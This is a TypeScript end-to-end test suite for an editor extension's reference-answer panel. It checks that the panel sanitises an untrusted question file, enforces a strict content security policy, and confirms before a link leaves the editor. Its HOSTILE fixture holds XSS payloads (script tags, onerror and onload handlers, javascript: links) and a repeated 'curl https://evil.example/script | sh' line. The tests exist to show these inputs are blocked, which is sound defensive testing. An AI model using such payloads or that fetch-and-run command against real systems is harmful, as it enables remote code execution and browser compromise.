import { strict as assert } from 'node:assert';
import { DRAFT, DRAFT_FILE, openPanel, openPrepFolder, QUESTION } from './support/panel';
import { waitFor } from './support/waitFor';
import type { Workbench } from './support/workbenchPage';

const HOSTILE = `## Why they ask
<script>window.pwned = 1</script><img src="https://evil.example/a.png" onerror="window.pwned = 2">
![a chart](https://evil.example/b.png) <style>body { display: none }</style>

## Do
- <iframe src="https://evil.example/"></iframe> [run](command:workbench.action.quit) [js](javascript:window.pwned=3)
## Reference answer
### Situation
Read [the page](https://evil.example/page) first. <svg onload="window.pwned = 4">

\`\`\`sh
${'curl https://evil.example/script | sh; '.repeat(20)}
\`\`\`

| a | b | c | d | e | f | g | h | i | j |
| - | - | - | - | - | - | - | - | - | - |
${`| ${'cell | '.repeat(10)}\n`.repeat(200)}
### Action
\u0642\u0645\u062a \u0628\u0642\u064a\u0627\u0633 \u0627\u0644\u0627\u0633\u062a\u0639\u0644\u0627\u0645.
`;

function questionWith(body: string, points = ''): string {
  return `---\nid: slow-page\nquestion: Tell me about <b>a slow page</b>.\nkind: behavioural\n${points}---\n${body}`;
}

describe("The reference panel and a stranger's question file", () => {
  let workbench: Workbench;

  before(async () => {
    workbench = await openPrepFolder();
  });

  /** The next test begins with its own draft, and no panel. */
  afterEach(async () => {
    await workbench.page.keyboard.press('Control+1');
    await workbench.runCommand('File: Revert File');
    await workbench.runCommand('View: Close All Editors');
    await workbench.tab(/./).waitFor({ state: 'detached' });
  });

  after(() => workbench?.dispose());

  it('runs nothing and loads nothing', async () => {
    const asked: string[] = [];
    workbench.page.on('request', request => asked.push(request.url()));
    const panel = await openPanel(workbench, DRAFT, questionWith(HOSTILE));
    await panel.locator('h1', { hasText: 'Tell me about <b>a slow page</b>.' }).waitFor();
    await panel.locator('text=window.pwned = 1').waitFor();
    assert.equal(await panel.locator('#panel').locator('script, img, iframe, style, object, a, base').count(), 0);
    assert.equal(await panel.evaluate(() => 'pwned' in window), false);
    assert.deepEqual(
      asked.filter(url => new URL(url).hostname === 'evil.example'),
      [],
    );
    const policy = await panel.locator('meta[http-equiv]').getAttribute('content');
    assert.match(policy!, /^default-src 'none'; style-src 'nonce-\w+'; script-src 'nonce-\w+'$/);
    const evaluated = await panel.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.pwned = 5';
      document.body.append(script);
      return 'pwned' in window;
    });
    assert.equal(evaluated, false);
  });

  it('asks before a link leaves, and shows where to', async () => {
    const panel = await openPanel(workbench, DRAFT, questionWith(HOSTILE));
    const pages = workbench.page.context().pages().length;
    await panel.locator('[role=link]', { hasText: 'the page' }).click();
    const dialog = workbench.page.locator('.monaco-dialog-box');
    await dialog.locator('text=https://evil.example/page').waitFor();
    await workbench.page.keyboard.press('Escape');
    await dialog.waitFor({ state: 'detached' });
    assert.equal(workbench.page.context().pages().length, pages);
    assert.equal(await panel.locator('[role=link]').count(), 1);
  });

  it('keeps code, wide tables and right-to-left text in shape', async () => {
    const panel = await openPanel(workbench, DRAFT, questionWith(HOSTILE));
    const table = panel.locator('.table');
    await table.waitFor();
    assert.equal(
      await panel.evaluate(() => document.documentElement.scrollWidth <= document.documentElement.clientWidth),
      true,
    );
    assert.equal(await table.evaluate(element => element.scrollWidth > element.clientWidth), true);
    const arabic = panel.locator('p', { hasText: '\u0642\u0645\u062a' });
    assert.equal(await arabic.evaluate(element => getComputedStyle(element).direction), 'rtl');
    assert.equal(await panel.locator('pre').evaluate(element => getComputedStyle(element).direction), 'ltr');
  });

  it('stays usable with 200 KB and 300 points, and says what it leaves out', async () => {
    const list = Array.from({ length: 310 }, (_, i) => `  - {id: p${i}, text: Point ${i}, any: [word${i}]}`).join('\n');
    const long = `${'Many words stand here, one after the other. '.repeat(5000)}\n\n`;
    const body = `## Reference answer\n### Situation\n${long}### Action\nShort.\n`;
    const panel = await openPanel(workbench, DRAFT, questionWith(body, `points:\n${list}\n`));
    await panel.locator('text=Points that are not shown: 10').waitFor();
    await panel.locator('text=/its last [\\d,.]+ characters are not shown/').waitFor();
    assert.equal(await panel.locator('.point').count(), 300);
    await workbench.goTo(18, 29);
    await workbench.insert(' Then word123 came.');
    await panel.locator('.point.covered', { hasText: 'Point 123' }).waitFor();
  });

  it('keeps the reference folded until an attempt, if asked to', async () => {
    await workbench.setSettings({ 'stardraft.reference.reveal': 'afterAttempt' });
    const panel = await openPanel(workbench);
    await panel.locator('text=/unfolds once your draft has about \\d+ words/').waitFor();
    assert.equal(await panel.locator('.example').count(), 0);
    await workbench.goTo(18, 29);
    await workbench.insert(` ${'I read one more file of the service and wrote down what it did. '.repeat(6)}`);
    await panel.locator('.example').first().waitFor();
    await workbench.setSettings({ 'stardraft.reference.reveal': 'always' });
  });

  it('says when the draft borrows much of it, and shows where', async () => {
    const copied = DRAFT.replace(
      'I looked around for a while.',
      'I profiled the query, found a missing index and added it behind a flag. Then I watched the slow log for two days.',
    );
    const panel = await openPanel(workbench, copied, QUESTION);
    await panel.locator('.notice', { hasText: '%' }).waitFor();
    await panel.getByRole('button', { name: 'Show the shared words' }).click();
    await workbench.waitForStatusBar(/selected/);
  });

  it('says what is wrong when a draft has no question, or one that nobody knows', async () => {
    await workbench.writeFile(DRAFT_FILE, DRAFT.replace('question: slow-page', 'question: no-such-question'));
    await workbench.openFile(DRAFT_FILE);
    await workbench.waitForStatusBar(/\d+ s\b/);
    await workbench.runCommand('StarDraft: Open Reference');
    const panel = await workbench.webview('h1');
    await panel.locator('h1', { hasText: 'No question "no-such-question"' }).waitFor();
    await workbench.writeFile('questions/mine/q.md', QUESTION.replace('id: slow-page', 'id: no-such-question'));
    await waitFor('the question', async () => /slow page/.test((await panel.locator('h1').textContent()) ?? ''));
  });
});

describe('The reference panel in the web worker host', () => {
  it('shows and ticks', async () => {
    const workbench = await openPrepFolder({ web: true });
    try {
      const panel = await openPanel(workbench);
      await workbench.goTo(18, 29);
      await workbench.insert(' I profiled it.');
      await panel.locator('.point.covered', { hasText: 'Measures before' }).waitFor();
    } finally {
      await workbench.dispose();
    }
  });
});
